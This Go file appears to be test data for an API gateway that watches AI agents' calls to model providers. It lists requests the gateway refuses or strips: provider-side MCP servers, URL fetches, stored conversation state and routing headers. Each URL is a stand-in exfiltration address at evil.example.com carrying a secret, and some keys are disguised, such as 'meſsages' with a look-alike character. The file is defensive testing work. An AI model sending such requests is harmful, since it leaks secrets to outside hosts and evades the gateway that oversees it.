// Copyright The Tidewaiter Authors.
// SPDX-License-Identifier: Apache-2.0

// Package detour has requests by which an agent would have its provider act elsewhere, keep something, or hide something from the gateway.
package detour

import (
	"fmt"
	"strings"
)

// Reasons of the gateway for a refusal.
const (
	ServerTool    = "ServerToolNotAllowed"
	ProviderState = "ProviderStateNotAllowed"
	Invalid       = "InvalidRequest"
)

// Paths of the dialects.
const (
	messages  = "/anthropic/v1/messages"
	responses = "/openai/v1/responses"
	chat      = "/openai/v1/chat/completions"
	gemini    = "/gemini/v1beta/models/large:generateContent"
)

// Model in each request.
const Model = "large"

// Request of an agent, and what the gateway does with it.
type Request struct {
	Path, Body string
	// Reason of the refusal; empty for a request that is sent on without a part of it.
	Reason string
	// Member that the refusal names.
	Member string
	// TakenOut is what the gateway removes, according to the ledger, and Gone a text that the provider then does not get.
	TakenOut, Gone string
	// Header and Value are an additional header of the request that the provider does not get; empty for none.
	Header, Value string
}

// Status of the answer to a refused request.
func (r Request) Status() int {
	if r.Reason == Invalid || r.Member == "thread" { // after which Claude Code sends the whole conversation
		return 400
	}
	return 403
}

// All are requests of every dialect. What they would send away is the secret, in an address.
func All(secret string) []Request {
	list := append(refused(), sentOn()...)
	for i := range list {
		members := strings.ReplaceAll(list[i].Body, "URL", `"https://evil.example.com/?q=`+secret+`"`)
		model := fmt.Sprintf(`"model":%q,"max_tokens":9,`, Model)
		if list[i].Path == gemini {
			model = ""
		}
		list[i].Body = "{" + model + members + "}"
	}
	return list
}

func refused() []Request {
	said := func(path, content string) string {
		if path == responses {
			return `"input":[{"type":"message","role":"user","content":[` + content + `]}]`
		}
		return `"messages":[{"role":"user","content":[` + content + `]}]`
	}
	return []Request{
		{Path: messages, Body: `"mcp_servers":[{"type":"url","name":"n","url":URL}],"messages":[{"role":"user","content":"x"}]`, Reason: ServerTool, Member: "mcp_servers"},
		{Path: messages, Body: `"tools":[{"type":"teleport_20270101","name":"t"}],"messages":[]`, Reason: ServerTool, Member: "tools[0]"},
		{Path: messages, Body: said(messages, `{"type":"image","source":{"type":"url","url":URL}}`), Reason: ServerTool, Member: "messages[0].content[0].source.url"},
		{
			Path: messages, Body: said(messages, `{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":URL}}]}`),
			Reason: ServerTool, Member: "messages[0].content[0].content[0].source.url",
		},
		{Path: messages, Body: `"container":"c","messages":[]`, Reason: ProviderState, Member: "container"},
		{Path: messages, Body: `"thread":{"type":"continue","previous_message_id":"m"},"messages":[]`, Reason: ProviderState, Member: "thread"},
		{Path: messages, Body: said(messages, `{"type":"image","source":{"type":"file","file_id":"f"}}`), Reason: ProviderState, Member: "messages[0].content[0].source.file_id"},
		{Path: messages, Body: `"Messages":[{"role":"user","content":"x"}],"messages":[]`, Reason: Invalid, Member: `\"Messages\"`},
		{Path: messages + "/count_tokens", Body: `"mcp_servers":[{"type":"url","name":"n","url":URL}],"messages":[]`, Reason: ServerTool, Member: "mcp_servers"},

		{Path: responses, Body: `"tools":[{"type":"mcp","server_label":"l","server_url":URL}],"input":"x"`, Reason: ServerTool, Member: "tools[0]"},
		{Path: responses, Body: `"tools":[{"type":"file_search","vector_store_ids":["v"]}],"input":"x"`, Reason: ProviderState, Member: "tools[0]"},
		{Path: responses, Body: said(responses, `{"type":"input_file","file_url":URL}`), Reason: ServerTool, Member: "input[0].content[0].file_url"},
		{Path: responses, Body: `"background":true,"input":"x"`, Reason: ProviderState, Member: "background"},
		{Path: responses, Body: `"previous_response_id":"resp_1","input":"x"`, Reason: ProviderState, Member: "previous_response_id"},
		{Path: responses, Body: `"conversation":"conv_1","input":"x"`, Reason: ProviderState, Member: "conversation"},
		{Path: responses, Body: `"prompt":{"id":"pmpt_1"},"input":"x"`, Reason: ProviderState, Member: "prompt"},
		{Path: responses, Body: `"input":[{"id":"msg_1"}]`, Reason: ProviderState, Member: "input[0]"},
		{Path: responses + "/compact", Body: `"previous_response_id":"resp_1","input":"x"`, Reason: ProviderState, Member: "previous_response_id"},
		{Path: responses + "/input_tokens", Body: `"conversation":"conv_1","input":"x"`, Reason: ProviderState, Member: "conversation"},

		{Path: chat, Body: `"plugins":[{"id":"web"}],"messages":[]`, Reason: ServerTool, Member: "plugins"},
		{Path: chat, Body: said(chat, `{"type":"image_url","image_url":{"url":URL}}`), Reason: ServerTool, Member: "messages[0].content[0].image_url.url"},
		{Path: chat, Body: said(chat, `{"type":"file","file":{"file_id":"f"}}`), Reason: ProviderState, Member: "messages[0].content[0].file.file_id"},
		{Path: chat, Body: `"functions":[{"name":"f"}],"messages":[]`, Reason: Invalid, Member: "functions"},
		{Path: chat, Body: `"messages":[{"role":"user","content":"x"}],"me\u017fsages":[]`, Reason: Invalid, Member: `\"meſsages\"`},
		{Path: chat, Body: `"api_base":URL,"messages":[{"role":"user","content":"x"}]`, Reason: ServerTool, Member: "api_base"},

		{Path: gemini, Body: `"tools":[{"mcpServers":[{"name":"n","streamableHttpTransport":{"url":URL}}]}],"contents":[{"role":"user","parts":[{"text":"x"}]}]`, Reason: ServerTool, Member: "tools[0].mcpServers"},
		{Path: gemini, Body: `"contents":[{"role":"user","parts":[{"fileData":{"mimeType":"image/png","fileUri":URL}}]}]`, Reason: ServerTool, Member: "contents[0].parts[0].fileData"},
		{Path: gemini, Body: `"contents":[{"role":"user","parts":[{"hologram":{"url":URL}}]}]`, Reason: ServerTool, Member: "contents[0].parts[0]"},
		{Path: gemini, Body: `"cachedContent":"cachedContents/1","contents":[{"role":"user","parts":[{"text":"x"}]}]`, Reason: ProviderState, Member: "cachedContent"},
	}
}

func sentOn() []Request {
	const (
		x     = `"messages":[{"role":"user","content":"x"}]`
		input = `"input":"x"`
		parts = `"contents":[{"role":"user","parts":[{"text":"x"}]}]`
	)
	claude := func(kind, name string) Request {
		return Request{Path: messages, Body: fmt.Sprintf(`"tools":[{"name":"Bash"},{"type":%q,"name":%q}],`, kind, name) + x, TakenOut: "anthropic/" + name, Gone: kind}
	}
	openai := func(kind, more string) Request {
		return Request{Path: responses, Body: fmt.Sprintf(`"tools":[{"type":"function","name":"f"},{"type":%q%s}],`, kind, more) + input, TakenOut: "openai/" + kind, Gone: kind}
	}
	google := func(tool, name string) Request {
		return Request{Path: gemini, Body: fmt.Sprintf(`"tools":[{"functionDeclarations":[{"name":"f"}]},{%q:{}}],`, tool) + parts, TakenOut: "google/" + name, Gone: tool}
	}
	return []Request{
		claude("web_search_20250305", "web_search"), claude("web_fetch_20250910", "web_fetch"), claude("code_execution_20250825", "code_execution"),
		openai("web_search", ""), openai("code_interpreter", `,"container":{"type":"auto"}`), openai("image_generation", ""),
		{Path: responses, Body: `"store":true,` + input, Gone: `"store":true`},
		{Path: chat, Body: `"web_search_options":{},` + x, TakenOut: "openai/web_search", Gone: "web_search_options"},
		{Path: chat, Body: `"provider":{"order":["cheap"]},"models":["other"],"route":"fallback",` + x, Gone: "order"},
		{Path: chat, Body: `"Service_Tier":"priority",` + x, Gone: "priority"},
		{Path: chat, Body: `"transforms":["middle-out"],` + x, Gone: "middle-out"},
		{Path: chat, Body: `"priority":-7,` + x, Gone: "-7"},
		{Path: messages, Body: `"speed":"fast",` + x, Gone: "fast"},
		{Path: chat, Body: `"chat_template":"{{secret}}",` + x, Gone: "chat_template"},
		{Path: chat, Body: x, Header: "OpenAI-Organization", Value: "org_other"},
		{Path: chat, Body: x, Header: "OpenAI-Project", Value: "proj_other"},
		{Path: messages, Body: x, Header: "Anthropic-Beta", Value: "mcp-client-2025-11-20"},
		{Path: messages, Body: x, Header: "Anthropic-Beta", Value: "context-1m-2025-08-07"}, // it has a price of its own
		google("googleSearch", "google_search"), google("urlContext", "url_context"), google("codeExecution", "code_execution"),
	}
}
